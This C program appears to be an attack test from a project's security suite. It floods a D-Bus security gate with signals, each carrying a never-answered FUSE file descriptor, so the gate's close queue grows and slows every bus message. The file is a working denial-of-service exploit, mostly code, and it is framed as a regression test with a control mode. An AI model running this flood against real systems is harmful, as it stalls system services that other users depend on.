/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* security-gate-signals (found by the eighth attack): make the gate's table
 * large without a call: unicast signals to
 * org.example.Resource1.Pidfd, each with a copy of a file (the bus policy lets a *Pidfd member of
 * the interface carry one descriptor, whatever the message type) of nobody's own
 * FUSE connection whose FLUSH from anyone but nobody and the bus is never
 * answered. The gate closes one file of a connection at a time (gate-close.c:
 * one close per FUSE connection until its fate is decided, 3 s deadline, then
 * AbortFuse), so every other copy waits in its queue, in its table; and every
 * message from anyone meanwhile lists the table and, per entry, walks the
 * queue (gate_close_known()).
 *   fuse-signals ROUNDS ROUND_S CONNECTIONS
 * Each round serves a fresh FUSE connection and sends for ROUND_S seconds.
 * Prints "ROUND i CONN c SENT n" and "DONE". */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <systemd/sd-bus.h>
#include "attack-fd-fuse.h"

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

static pid_t bus_pid(void) {
        sd_bus *b = NULL; uint32_t pid = 0; sd_bus_message *rep = NULL;
        if (sd_bus_open_system(&b) >= 0 &&
            sd_bus_call_method(b, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                               "GetConnectionUnixProcessID", NULL, &rep, "s", "org.freedesktop.DBus") >= 0)
                sd_bus_message_read(rep, "u", &pid);
        sd_bus_message_unref(rep); sd_bus_flush_close_unref(b);
        return pid;
}

static int first_err;

int main(int argc, char **argv) {
        int rounds = argc > 1 ? atoi(argv[1]) : 5;
        double round_s = argc > 2 ? atof(argv[2]) : 2.5;
        int n_conn = argc > 3 ? atoi(argv[3]) : 8;
        setvbuf(stdout, NULL, _IOLBF, 0);
        sd_bus *b[64] = {};
        if (n_conn > 64) n_conn = 64;
        for (int i = 0; i < n_conn; i++)
                if (sd_bus_open_system(&b[i]) < 0) { printf("FAIL connect\n"); return 1; }
        pid_t allowed[2] = { getpid(), bus_pid() };
        for (int round = 0; round < rounds; round++) {
                FuseHold *h = calloc(1, sizeof *h);
                int file = -1, r; char why[256] = "";
                /* ATTACK8_PIDFD=1: the control, a pidfd of this process
                 * (its close waits on no one). */
                if (getenv("ATTACK8_PIDFD"))
                        file = (int) syscall(SYS_pidfd_open, getpid(), 0);
                else if ((r = fuse_hold_start(h, allowed, 2, &file, why, sizeof why)) < 0) {
                        printf("SKIP %s %s\n", why, strerror(-r));
                        return 0;
                }
                struct statx stx; unsigned conn = 0;
                if (statx(file, "", AT_EMPTY_PATH | AT_STATX_DONT_SYNC, 0, &stx) == 0)
                        conn = stx.stx_dev_major << 20 | stx.stx_dev_minor;
                unsigned sent = 0, failed = 0;
                double t0 = now();
                while (now() - t0 < round_s) {
                        for (int i = 0; i < n_conn; i++) {
                                sd_bus_message *m = NULL;
                                r = sd_bus_message_new_signal(b[i], &m, "/org/example/Resource1", "org.example.Resource1", "PrlimitPidfd");
                                if (r >= 0) r = sd_bus_message_set_destination(m, "org.example.Resource1.Pidfd");
                                for (int k = 0; r >= 0 && k < 1; k++)
                                        r = sd_bus_message_append_basic(m, 'h', &file);
                                if (r >= 0) r = sd_bus_send(b[i], m, NULL);
                                sd_bus_message_unref(m);
                                if (r < 0) failed++; else sent++;
                                if (r < 0 && !first_err) { first_err = r; printf("SEND %s\n", strerror(-r)); }
                                while (sd_bus_process(b[i], NULL) > 0)
                                        ;
                        }
                        /* Written as the bus takes them. */
                        for (int i = 0; i < n_conn; i++) {
                                uint64_t q = 0;
                                if (sd_bus_get_n_queued_write(b[i], &q) >= 0 && q > 32)
                                        (void) sd_bus_wait(b[i], 1000);
                                (void) sd_bus_process(b[i], NULL);
                        }
                }
                for (int i = 0; i < n_conn; i++) (void) sd_bus_flush(b[i]);
                printf("ROUND %d CONN %u SENT %u FAILED %u\n", round, conn, sent, failed);
                close(file);
        }
        printf("DONE\n");
        sleep(30);
        return 0;
}
